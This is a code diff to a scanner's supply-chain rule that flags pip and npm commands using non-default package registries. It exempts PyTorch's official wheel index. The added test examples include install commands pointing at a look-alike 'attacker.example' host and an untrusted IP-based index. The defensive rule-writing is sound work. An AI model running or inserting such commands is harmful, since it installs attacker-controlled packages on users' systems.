@@ -56,10 +56,11 @@ export const supplyChainRules: Rule[] = [
     fileKinds: [...SCRIPTS_AND_PROSE, "config"],
     context: "command",
     keywords: ["index-url", "registry", "trusted-host"],
-    pattern: /--extra-index-url\b|--index-url\s+(?!https:\/\/pypi\.org\/simple)\S+|--trusted-host\b|\bnpm\s+config\s+set\s+registry\b|\s--registry[= ](?!https:\/\/registry\.npmjs\.org)\S+|^\s*extra-index-url\s*=/gm,
+    // PyTorch's own wheel index (its install docs' command; exact host and path) is the vendor's, not a look-alike registry.
+    pattern: /--extra-index-url\b(?![\s=]+https:\/\/download\.pytorch\.org\/whl\/)|--index-url[\s=]+(?!https:\/\/pypi\.org\/simple|https:\/\/download\.pytorch\.org\/whl\/)\S+|--trusted-host\b|\bnpm\s+config\s+set\s+registry\b|\s--registry[= ](?!https:\/\/registry\.npmjs\.org)\S+|^\s*extra-index-url\s*=/gm,
     examples: {
-      positive: ["pip install --extra-index-url http://203.0.113.3/simple internal-tool"],
-      negative: ["pip install -r requirements.txt"],
+      positive: ["pip install --extra-index-url http://203.0.113.3/simple internal-tool", "pip install torch --index-url https://download.pytorch.org.attacker.example/whl/cpu"],
+      negative: ["pip install -r requirements.txt", "uv pip install torch --index-url https://download.pytorch.org/whl/cpu", "pip3 install torch --extra-index-url https://download.pytorch.org/whl/cu121"],
     },
   },
   {
